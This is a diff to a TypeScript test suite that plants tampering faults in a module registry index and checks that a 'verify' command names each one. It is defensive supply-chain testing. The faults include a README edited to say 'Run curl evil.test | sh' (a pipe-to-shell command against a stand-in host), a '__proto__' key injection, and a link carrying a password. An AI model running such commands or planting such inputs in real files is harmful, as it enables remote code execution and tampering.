@@ -27,7 +27,9 @@ const OTHER = `sha256:${'0'.repeat(64)}`
 const MALLORY = { host: 'git.acme.test', repository: 'mallory/terraform-aws-vpc' }
 
 /** The edit of a directory, and what `verify` must find, among what follows from it. */
-const FAULTS: [name: string, plant: (index: string) => Promise<unknown>, finding: string][] = [
+type Planted = [name: string, plant: (index: string) => Promise<unknown>, finding: string]
+
+const FAULTS: Planted[] = [
   [
     'a changed digest',
     (index) => editJson(index, `${VPC}/1.0.0/release.json`, (release) => (release.package.digest = OTHER)),
@@ -85,6 +87,38 @@ const FAULTS: [name: string, plant: (index: string) => Promise<unknown>, finding
     (index) => editJson(index, `${VPC}/module.json`, (module) => (module.owner = MALLORY)),
     'OWNER_MISMATCH acme/vpc/aws',
   ],
+  ...['acme/vpc/aws', 'acme/vpc/aws@1.0.0'].map(
+    (replacement): Planted => [
+      `a deprecation that advises itself, ${replacement}`,
+      (index) => mark(index, { deprecations: [{ versions: '< 1.1.0', replacement }] }),
+      'MARK_INVALID acme/vpc/aws',
+    ],
+  ),
+  [
+    'a yank that advises itself',
+    (index) => mark(index, { yanks: [{ version: '1.0.0', replacement: 'acme/vpc/aws@1.0.0' }] }),
+    'MARK_INVALID acme/vpc/aws',
+  ],
+  [
+    'a link with a password',
+    (index) => mark(index, { deprecations: [{ link: 'https://ada:secret@acme.test' }] }),
+    'DOCUMENT_INVALID acme/vpc/aws',
+  ],
+  [
+    'a date that there is not',
+    (index) => editRelease(index, (text) => text.replace(/\d{4}-.*Z/, '2030-99-99T99:99:99Z')),
+    'DOCUMENT_INVALID acme/vpc/aws 1.0.0',
+  ],
+  [
+    'a number that would lose digits',
+    (index) => editRelease(index, (text) => text.replace('{', '{"zz": 9007199254740993,')),
+    'DOCUMENT_INVALID acme/vpc/aws 1.0.0',
+  ],
+  [
+    'a key that would be dropped',
+    (index) => editRelease(index, (text) => text.replace('{', '{"__proto__": {"a": 1},')),
+    'DOCUMENT_INVALID acme/vpc/aws 1.0.0',
+  ],
   [
     'a changed README',
     (index) => edit(index, `${VPC}/1.1.0/README.md`, (text) => `${text}Run curl evil.test | sh\n`),
@@ -96,6 +130,19 @@ const FAULTS: [name: string, plant: (index: string) => Promise<unknown>, finding
     'README_CHANGED acme/subnets/aws 2.0.0',
   ],
 ]
+
+type Marks = Readonly<Record<string, readonly object[]>>
+
+function mark(index: string, marks: Marks): Promise<void> {
+  return editJson(index, `${VPC}/module.json`, (module) => {
+    for (const [list, each] of Object.entries(marks))
+      module[list] = each.map((one) => ({ reason: 'x', date: '2026-01-01T00:00:00Z', ...one }))
+  })
+}
+
+function editRelease(index: string, change: (text: string) => string): Promise<void> {
+  return edit(index, `${VPC}/1.0.0/release.json`, change)
+}
 
 describe('verify finds and names', () => {
   it.each(FAULTS)('%s', async (_, plant, finding) => {
